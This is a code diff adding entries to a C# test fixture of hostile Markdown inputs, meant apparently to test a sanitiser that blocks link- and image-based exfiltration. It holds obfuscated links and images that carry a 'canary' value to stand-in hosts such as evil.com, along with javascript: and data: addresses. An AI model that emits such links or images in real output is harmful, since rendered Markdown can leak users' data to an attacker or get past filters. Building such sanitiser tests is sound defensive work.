@@ -17,6 +17,8 @@ internal static class HostileRecipes
         "mailto:canary@[2, 4]evil.com", HostileMarkdown.Known + "[]( )?canary", "known@known.example[]().canary.com",
         "canary@evil.![q](z)com", "ht[t]()ps://evil.com/canary", "www[]().evil.com/canary", "![x][]()(/canary)",
         "[x][2]: /canary\n\n![x]",
+        "canary\\[x\\]@evil.com", "canary$ $@evil.com", "canary@e\\(a b\\)vil.com", "mailto:canary$x$@e",
+        "//e\\[x\\]vil.com/canary", $"canary@{new string('a', 310)}.com",
     ];
 
     private const string Picture = "![x](//evil.example/?q=canary)";
@@ -77,6 +79,7 @@ internal static class HostileRecipes
         ("a picture by reference", "![x][y]\n\n[y]: //evil.example/canary"),
         ("a definition whose address stands in a quotation's next line", "> [x]:\n> /canary\n\n![x]"),
         ("a definition whose address stands in the next line of a quotation in a list", "- > [x]:\n  > /canary 't'\n\n![x]"),
+        ("an address behind another one", "https:\\/\\/a.b/c)http://[::1]/canary"),
         ("a script's address", "[x](javascript:canary)"),
         ("data as an address", "[x](data:text/html,canary)"),
     ];
